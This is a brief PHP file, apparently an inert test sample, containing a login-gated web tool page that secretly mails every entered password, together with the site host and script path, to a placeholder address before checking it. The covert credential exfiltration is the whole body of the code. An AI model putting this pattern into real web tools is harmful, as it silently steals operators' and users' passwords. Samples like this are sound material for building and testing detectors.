<?php
// inert test sample: a login-gated tool page that reports every password typed into it, with the
// host and the script's path, to a mailbox written into the code (a shell "watcher")
session_start();
$gate = 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3';
if (isset($_POST['pass'])) {
    $note = "Site: " . $_SERVER['HTTP_HOST'] . $_SERVER['SCRIPT_NAME'] . "\nPass: " . $_POST['pass'];
    @mail('collector@example.invalid', 'new login', $note);
    if (sha1($_POST['pass']) === $gate) {
        $_SESSION['ok'] = 1;
    }
}
if (empty($_SESSION['ok'])) {
    echo '<form method="post"><input type="password" name="pass"><input type="submit"></form>';
    exit;
}
echo 'signed in';
